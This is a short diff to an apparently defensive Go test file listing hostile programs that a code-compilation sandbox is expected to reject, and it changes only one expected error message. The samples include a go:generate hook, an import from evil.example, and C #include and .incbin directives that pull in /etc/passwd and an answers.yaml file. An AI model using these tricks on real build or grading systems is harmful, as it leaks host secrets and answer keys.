@@ -32,7 +32,7 @@ var hostileSources = []hostile{
 		"package main\n\n//go:generate touch /tmp/lab-hostile-was-here\n\nfunc main() {}\n")},
 	{name: "module", attempt: "fetches a stranger's package", want: "standard library only", make: source("prog.go",
 		"package main\n\nimport _ \"evil.example/run\"\n\nfunc main() {}\n")},
-	{name: "include", attempt: "includes a file of the host", want: "No such file", make: source("prog.c",
+	{name: "include", attempt: "includes a file of the host", want: "fatal error: /etc/passwd", make: source("prog.c",
 		"#include \"/etc/passwd\"\n#include \"../answers.yaml\"\nint main(void) { return 0; }\n")},
 	{name: "incbin", attempt: "assembles a file of the host in", want: "file not found", make: source("prog.c",
 		"__asm__(\".incbin \\\"/etc/passwd\\\"\");\nint main(void) { return 0; }\n")},
